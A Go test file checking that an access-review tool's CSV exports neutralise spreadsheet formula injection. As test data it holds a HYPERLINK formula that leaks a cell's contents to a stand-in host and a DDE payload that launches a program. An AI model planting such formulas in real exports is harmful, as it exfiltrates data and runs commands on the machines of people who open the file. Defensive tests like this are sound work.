package campaign

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// hostile is what a member, an Okta admin or a directory attribute can put
// in a field that ends up in a CSV cell.
const hostile = `=HYPERLINK("https://evil.example/?q="&A1,"click")`

// csvCells reads every cell of a CSV, failing on a malformed one.
func csvCells(t *testing.T, b []byte) []string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range rows {
		out = append(out, r...)
	}
	return out
}

// assertNeutral fails when a cell a spreadsheet would evaluate is in b, or
// when want, neutralised, is not.
func assertNeutral(t *testing.T, b []byte, want ...string) {
	t.Helper()
	cells := csvCells(t, b)
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %q would be evaluated as a formula", c)
		}
	}
	for _, w := range want {
		found := false
		for _, c := range cells {
			found = found || c == "'"+w
		}
		if !found {
			t.Errorf("no cell %q in %q", "'"+w, cells)
		}
	}
}

func TestCSVWritersNeutraliseFormulas(t *testing.T) {
	for _, tc := range []struct {
		name  string
		write func(*bytes.Buffer) error
		want  []string
	}{
		{"report: member and reviewer comments, names", func(b *bytes.Buffer) error {
			r := &Report{people: map[string]*User{"u1": {ID: "u1", Email: "@u1@x.com", FirstName: "+Eve", Department: "-Sales"}},
				caseRows: []CaseRecord{{ID: 1, UserID: "u1", Kind: "app", EntitlementID: "a1", Label: "=cmd|' /C calc'!A0",
					MemberComment: hostile, ReviewerComment: "\t=1+1", DecidedBy: "\r=2"}}}
			return r.WriteCSV(b)
		}, []string{hostile, "=cmd|' /C calc'!A0", "\t=1+1", "\r=2", "@u1@x.com", "-Sales"}},
		{"plan cases: user, app and group names", func(b *bytes.Buffer) error {
			s := smallOrg()
			s.Users[2].FirstName, s.Users[2].Department = hostile, "@Eng"
			s.Apps[1].Label = "+AWS"
			s.Groups[1].Name = "-Engineering"
			def, _ := ParseDefinition("t.yaml", []byte("name: Q4\n"))
			cs, err := BuildCases(NewIndex(s), def, testNow)
			if err != nil {
				return err
			}
			return WriteCasesCSV(b, cs)
		}, []string{"@Eng", "+AWS"}},
		{"sweep findings", func(b *bytes.Buffer) error {
			return WriteFindingsCSV(b, []Finding{{Kind: FindingStaleUser, UserID: "u1", Email: "=x@x.com", Label: "@app", Detail: hostile}})
		}, []string{"=x@x.com", "@app", hostile}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tc.write(&b); err != nil {
				t.Fatal(err)
			}
			assertNeutral(t, b.Bytes(), tc.want...)
		})
	}
}
